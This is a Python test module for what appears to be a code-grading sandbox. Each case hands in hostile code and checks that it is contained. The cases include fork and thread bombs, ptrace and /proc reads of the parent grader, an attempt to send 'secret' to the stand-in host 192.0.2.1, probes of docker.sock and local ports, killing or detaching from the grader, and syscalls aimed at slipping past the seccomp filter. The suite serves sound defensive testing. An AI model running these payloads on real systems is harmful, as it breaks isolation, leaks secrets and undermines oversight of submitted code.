"""Processes and the network: leave something running, reach the grader or a neighbour, tell somebody outside."""

# ruff: noqa: E501 - the long lines stand inside texts that are handed in

from __future__ import annotations

from tests.attacks.case import ALL, Case, but, right, wrong

# Runs each way; whatever does not raise has reached what it wanted.
TRY = """
import ctypes, os, signal, subprocess, sys

libc = ctypes.CDLL(None, use_errno=True)


def attempt(*ways):
    for number, way in enumerate(ways):
        try:
            got = way()
        except (OSError, ValueError, RuntimeError, ImportError, AttributeError):
            continue
        if not (isinstance(got, int) and (got < 0 or got == 127 << 8)):
            print("REACHED", number, got, flush=True)
"""

CASES = [
    Case(
        "proc-03-fork-bomb",
        right(
            bodies={
                "lr_wsd": """
                    import os, time
                    for _ in range(200):
                        if os.fork() == 0:
                            time.sleep(20)
                            os._exit(0)
                    print("REACHED 200 processes")
                """
            }
        ),
        but(6),
        said=("not allowed|BlockingIOError|PermissionError|OSError",),
    ),
    Case(
        "proc-04-thread-bomb",
        right(
            bodies={
                "accumulate_gradients": """
                    import threading, time
                    torch.set_num_threads(512)
                    for _ in range(20000):
                        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
                    print("REACHED 20000 threads")
                """
            }
        ),
        but(7),
    ),
    Case(
        "proc-06-ptrace",
        wrong(
            TRY
            + """
parent = os.getppid()
local, remote = (ctypes.c_size_t * 2)(id(libc), 8), (ctypes.c_size_t * 2)(id(libc), 8)
attempt(
    lambda: libc.ptrace(16, parent, 0, 0),
    lambda: libc.ptrace(0x4206, parent, 0, 0),
    lambda: open(f"/proc/{parent}/mem", "r+b"),
    lambda: open(f"/proc/{parent}/environ", "rb").read(),
    lambda: open(f"/proc/{parent}/maps", "rb").read(),
    lambda: libc.process_vm_writev(parent, local, 1, remote, 1, 0),
    lambda: libc.process_vm_readv(parent, local, 1, remote, 1, 0),
    lambda: libc.syscall(438, libc.syscall(434, parent, 0), 3, 0),
    lambda: os.listdir(f"/proc/{parent}/fd"),
)
"""
        ),
    ),
    Case(
        "proc-07-stop-self",
        right(
            bodies={
                "cross_entropy": "import os, signal, sys\nos.kill(os.getpid(), signal.SIGSTOP)\nsys.stdin.read()\nreturn 0"
            }
        ),
        but(3, 7),
    ),
    Case(
        "proc-08-ignore-sigterm",
        right(
            bodies={
                "cross_entropy": """
                    import signal
                    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGALRM, signal.SIGHUP):
                        signal.signal(number, signal.SIG_IGN)
                    while True:
                        try:
                            while True:
                                pass
                        except BaseException:
                            pass
                """
            }
        ),
        but(3, 7),
        said=("time|stopped after",),
    ),
    Case(
        "proc-10-hold-pipe-open",
        wrong(
            TRY
            + """
attempt(
    lambda: os.fork() or os.execv("/bin/sleep", ["sleep", "20"]),
    lambda: subprocess.Popen(["sleep", "20"], close_fds=False).pid,
    lambda: os.posix_spawn("/bin/sleep", ["sleep", "20"], {}),
    lambda: os.system("sleep 20 &"),
)
"""
        ),
    ),
    Case(
        "proc-11-dataloader-workers",
        right(
            bodies={
                "accumulate_gradients": """
                    from torch.utils.data import DataLoader
                    total = 0
                    for x, y in DataLoader(list(micro_batches), batch_size=None, num_workers=2):
                        total = total + cross_entropy(model(x), y)
                    return total
                """
            }
        ),
        but(7),
        said=("num_workers=0",),
    ),
    Case(
        "proc-12-openmp-after-fork",
        right(
            "torch.set_num_threads(2)\n"
            "big = torch.ones(600, 600)\n"
            "assert float((big @ big).sum()) == 600.0**3 and float(big.exp().sum()) > 0"
        ),
        ALL,
    ),
    Case(
        "net-01-exfiltrate",
        wrong(
            TRY
            + """
import socket, urllib.request


def datagram():
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return outside.sendto(b"secret", ("192.0.2.1", 53))


attempt(
    datagram,
    lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=0.1),
    lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.1),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    lambda: socket.gethostbyname("secret.example.com"),
)
"""
        ),
    ),
    Case(
        "net-03-local-services",
        wrong(
            TRY
            + """
import socket


def knock(port):
    door = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    return door.connect_ex(("127.0.0.1", port)) or 1


attempt(*(lambda port=port: knock(port) for port in (22, 80, 5432, 8786, 8888)))


def listen():
    door = socket.socket()
    door.bind(("127.0.0.1", 0))
    return door.listen()


attempt(listen)
"""
        ),
    ),
    Case(
        "net-04-unix-sockets",
        wrong(
            TRY
            + """
import socket


def at(address):
    return socket.socket(socket.AF_UNIX).connect_ex(address) or 1


attempt(*(lambda a=a: at(a) for a in ("/var/run/docker.sock", "\\0left-by-a-submission", "/run/dbus/system_bus_socket")))
attempt(lambda: socket.socket(socket.AF_UNIX).bind("\\0left-by-a-submission"), lambda: socket.socketpair())
"""
        ),
    ),
    Case(
        "own-kills-around-itself",
        wrong(
            TRY
            + """
attempt(
    lambda: os.kill(os.getppid(), signal.SIGKILL) or 1,
    lambda: os.kill(os.getppid(), 0) or 1,
    lambda: os.killpg(os.getpgid(os.getppid()), 0) or 1,
    lambda: libc.tgkill(os.getppid(), os.getppid(), 9),
    lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9) or 1,
    lambda: os.kill(1, 0) or 1,
)
"""
        ),
    ),
    Case(
        "own-away-into-a-session-of-its-own",
        wrong(
            TRY
            + """
attempt(
    lambda: os.setsid(),
    lambda: os.setpgid(0, 0) or 1,
    lambda: libc.daemon(1, 1),
    lambda: os.unshare(0x10000000) if hasattr(os, "unshare") else libc.unshare(0x10000000),
    lambda: libc.prctl(1, 0, 0, 0, 0),
    lambda: libc.syscall(56, 0x11, 0, 0, 0, 0),
    lambda: libc.syscall(58),
)
"""
        ),
    ),
    Case(
        "own-worker-processes-of-every-kind",
        wrong(
            TRY
            + """
import multiprocessing, concurrent.futures


def pool():
    with concurrent.futures.ProcessPoolExecutor(1) as executor:
        return executor.submit(os.getpid).result(0.2)


def started(method):
    process = multiprocessing.get_context(method).Process(target=os.getpid)
    process.start()
    return process.pid


attempt(pool, *(lambda method=method: started(method) for method in ("fork", "spawn", "forkserver")))
"""
        ),
    ),
    Case(
        "own-thread-that-stays-behind",
        wrong(
            """
            import os, threading


            def scribble():
                while True:
                    for fd in range(3, 256):
                        try:
                            os.write(fd, b"V\\x02\\0\\0\\0b\\x01")
                        except OSError:
                            pass


            threading.Thread(target=scribble, daemon=True).start()
            """
        ),
    ),
    Case(
        "own-memory-shared-beyond-its-life",
        wrong(
            TRY
            + """
from multiprocessing import shared_memory

attempt(
    lambda: shared_memory.SharedMemory("left-by-a-submission", create=True, size=64).name,
    lambda: libc.shmget(0x1EF7, 4096, 0o1600),
    lambda: libc.msgget(0x1EF7, 0o1600),
    lambda: libc.semget(0x1EF7, 1, 0o1600),
    lambda: open("/dev/shm/left-by-a-submission", "w"),
    lambda: torch.zeros(4).share_memory_(),
)
"""
        ),
    ),
    Case(
        "own-way-around-the-filter",
        wrong(
            TRY
            + """
attempt(
    lambda: libc.syscall(425, 8, ctypes.create_string_buffer(120)),
    lambda: libc.syscall(321, 0, 0, 0),
    lambda: libc.syscall(0x40000000 | 57),
    lambda: libc.syscall(165, b"none", b"/tmp", b"tmpfs", 0, 0),
    lambda: libc.syscall(161, b"/tmp"),
    lambda: libc.syscall(157, 22, 0, 0),
)
"""
        ),
    ),
    Case(
        "own-first-in-line",
        wrong(
            TRY
            + """
import resource

attempt(
    lambda: os.nice(-15),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or 1,
    lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)) or 1,
    lambda: resource.setrlimit(resource.RLIMIT_CPU, (-1, -1)) or 1,
    lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
)
"""
        ),
    ),
]
